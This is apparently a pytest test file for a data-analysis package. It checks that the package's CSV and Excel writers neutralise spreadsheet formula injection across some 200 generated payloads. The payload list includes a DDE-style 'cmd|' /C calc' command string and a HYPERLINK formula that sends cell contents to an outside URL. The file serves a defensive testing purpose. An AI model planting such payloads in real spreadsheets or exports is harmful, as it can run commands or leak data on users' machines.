"""What we write opens in a spreadsheet as text: 200 payloads in every kind of text column."""

import ast
import csv
import itertools
import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import buzz_analysis
from buzz_analysis.answers.write import csv_text, neutral, write_csv, write_plain_csv, write_rows, write_xlsx
from buzz_analysis.errors import DataError
from buzz_analysis.prepare import vsv_import
from buzz_analysis.report.workbook import sheets

# First signs: OWASP ASVS 5.0, 1.2.10; the wide ones, line ends and separators are what spreadsheets take for the same.
SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
IN_FRONT = ["", "\t", "\r", "\n", " ", "  ", '"']
COMMANDS = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?x="&A1;"klik")']
PAYLOADS = [start + sign + command for sign, start, command in itertools.product(SIGNS, IN_FRONT, COMMANDS)]
BEHIND = [f"a{mark}{sign}cmd|'/C calc'!A0" for mark in (";", ",", "\t", "|", "\n", "; ") for sign in SIGNS]
LIVE = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")


def test_there_are_two_hundred_payloads():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("kind", ["str", "object", "category", "heading"])
def test_no_payload_is_live_in_a_csv_however_a_spreadsheet_splits_it(tmp_path, kind):
    texts = [*PAYLOADS, *BEHIND]
    frame = pd.DataFrame([range(len(texts))], columns=texts) if kind == "heading" else pd.DataFrame({"x": texts})
    write_csv(frame if kind == "heading" else frame.astype(kind), tmp_path / "a.csv")
    written = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(written.splitlines(keepends=True)) for cell in row]
    split = [part for line in re.split(r"[\r\n]", written) for part in re.split(r"[;,\t|]", line)]
    assert [cell for cell in [*cells, *split] if LIVE.match(cell)] == []


@pytest.mark.parametrize("text", ["\tabc", "\rabc", "\nabc", "\0abc"])
def test_a_control_sign_in_front_is_quoted_too(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("kind", ["str", "object", "category"])
def test_no_payload_is_a_formula_in_excel(tmp_path, kind):
    write_xlsx({"alles": pd.DataFrame({"x": [*PAYLOADS, *BEHIND]}).astype(kind)}, tmp_path / "a.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["alles"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert not [cell.value for row in sheet.iter_rows() for cell in row if LIVE.match(cell.value)]


@pytest.mark.parametrize("text", ["-1.5", "-1,5", "-3", "12", "1e-3", "-2.5e6", "a-b", "T1 = T2", "a, b", "", "x@y"])
def test_numbers_and_ordinary_texts_stay_as_they_are(text):
    assert neutral(text) == text


def test_numbers_in_a_column_of_numbers_stay_numbers(tmp_path):
    write_csv(pd.DataFrame({"x": [-1.5, 2.0], "n": pd.array([-1, None], dtype="Int8")}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").splitlines()[1:] == ["-1.5,-1", "2,"]


def test_missing_stays_empty_and_a_day_has_no_time(tmp_path):
    frame = pd.DataFrame({"t": ["a", None], "d": pd.to_datetime(["2021-05-31", None])})
    write_csv(frame, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").splitlines()[1:] == ['"a",2021-05-31', ","]


def test_a_csv_reads_back_as_it_was(tmp_path):
    frame = pd.DataFrame({"a": ['x "y"', "é;ö", "regel\nterug"], "n": [1, 2, 3]})
    write_csv(frame, tmp_path / "a.csv")
    pd.testing.assert_frame_equal(pd.read_csv(tmp_path / "a.csv", dtype={"a": "str"}), frame)


def test_excel_gets_dates_and_numbers_and_an_empty_cell_for_missing(tmp_path):
    frame = pd.DataFrame({"d": pd.to_datetime(["2021-05-31", None]), "n": pd.array([1, None], dtype="Int8")})
    write_xlsx({"a": frame, "b": frame}, tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    rows = [[cell.value for cell in row] for row in book["b"].iter_rows(min_row=2)]
    assert book.sheetnames == ["a", "b"]
    assert (str(rows[0][0])[:10], rows[0][1], rows[1]) == ("2021-05-31", 1, [None, None])


def test_signs_that_excel_refuses_and_cells_too_long_for_it_do_not_break_the_file(tmp_path):
    write_xlsx({"a": pd.DataFrame({"t": ["a\x07b", "x" * 40_000, "#REF!"]})}, tmp_path / "a.xlsx")
    texts = [cell.value for cell in openpyxl.load_workbook(tmp_path / "a.xlsx")["a"]["A"]][1:]
    assert texts[0] == "ab" and len(texts[1]) == 32_767 and texts[1].endswith("…") and texts[2] == "#REF!"


def test_more_rows_than_excel_holds_are_refused(tmp_path):
    frame = pd.DataFrame({"x": np.zeros(1_048_576, dtype="int8")})
    with pytest.raises(DataError, match="Excel holds 1048575"):
        write_xlsx({"a": frame}, tmp_path / "a.xlsx")


def test_the_frame_is_not_changed_and_a_failed_write_keeps_the_earlier_file(tmp_path, monkeypatch):
    frame = pd.DataFrame({"x": ["=1+1"]})
    write_csv(frame, tmp_path / "a.csv")
    monkeypatch.setattr("buzz_analysis.answers.write.write_arrow", lambda *_: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        write_csv(pd.DataFrame({"x": ["new"]}), tmp_path / "a.csv")
    assert frame["x"].tolist() == ["=1+1"]
    assert [path.name for path in tmp_path.iterdir()] == ["a.csv"] and "=1+1" in (tmp_path / "a.csv").read_text()


def test_rows_and_plain_csv_leave_no_formula_alive_either(tmp_path):
    with (tmp_path / "rows.csv").open("w", encoding="utf-8", newline="") as file:
        write_rows(file, [["name", "n"], ["=1+1", -3], ["@x, y", 2]], separator=";")
    write_plain_csv(pd.DataFrame({"name": ["=1+1", None], "n": [-3, 2]}), tmp_path / "plain.csv")
    assert (tmp_path / "rows.csv").read_text(encoding="utf-8") == "name;n\n'=1+1;-3\n'@x, y;2\n"
    assert (tmp_path / "plain.csv").read_text(encoding="utf-8") == "name,n\n'=1+1,-3\n,2\n"


# Their cells are typed as text, which no spreadsheet reads as a formula: below, and tests/runner/test_sheets.py.
TYPED = {"report/workbook/sheets.py", "runner/document/sheets.py"}
WRITERS = {"to_csv", "to_excel", "ExcelWriter", "DictWriter", "Workbook", "write_arrow", "WriteOptions"}
PACKAGE = Path(buzz_analysis.__file__).parent


def test_nothing_else_in_the_package_writes_csv_or_excel():
    """Whoever writes a file of their own writes formulas that live."""
    found = set()
    for path in PACKAGE.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        writers = WRITERS if "openpyxl" in source else WRITERS - {"Workbook"}  # a model of ours has that name too
        for node in ast.walk(ast.parse(source)):
            name = node.attr if isinstance(node, ast.Attribute) else node.id if isinstance(node, ast.Name) else ""
            is_csv_writer = name == "writer" and isinstance(node, ast.Attribute) and ast.unparse(node.value) == "csv"
            is_arrow = isinstance(node, ast.ImportFrom) and node.module == "pyarrow.csv" and _names_a_writer(node)
            if name in writers or is_csv_writer or is_arrow:
                found.add(path.relative_to(PACKAGE).as_posix())
    assert found == {"answers/write.py", *TYPED}


def test_a_text_in_the_workbook_of_records_is_never_a_formula():
    cell = openpyxl.Workbook().active["A1"]
    sheets._put(cell, "=1+1")
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def _names_a_writer(node):
    return any("write" in alias.name.lower() for alias in node.names)


def test_a_table_to_download_holds_no_live_formula():
    frame = pd.DataFrame({"=a": ["=1+1", "+31 6 1", None, "-3,5"], "n": [1, 2, 3, 4]})
    assert csv_text(frame, end="\r\n") == "'=a,n\r\n'=1+1,1\r\n'+31 6 1,2\r\n,3\r\n\"-3,5\",4\r\n"


def test_a_register_is_written_without_live_formulas_and_read_back_as_it_was(tmp_path):
    rows = [{"id": "kaap", "contact": "+31 20 1", "note": "=1+1"}, {"id": "meer", "contact": "'t Huis", "note": ""}]
    vsv_import.write_rows(tmp_path / "register.csv", rows)
    assert "'=1+1" in (tmp_path / "register.csv").read_text(encoding="utf-8")
    assert vsv_import.read_rows(tmp_path / "register.csv") == rows
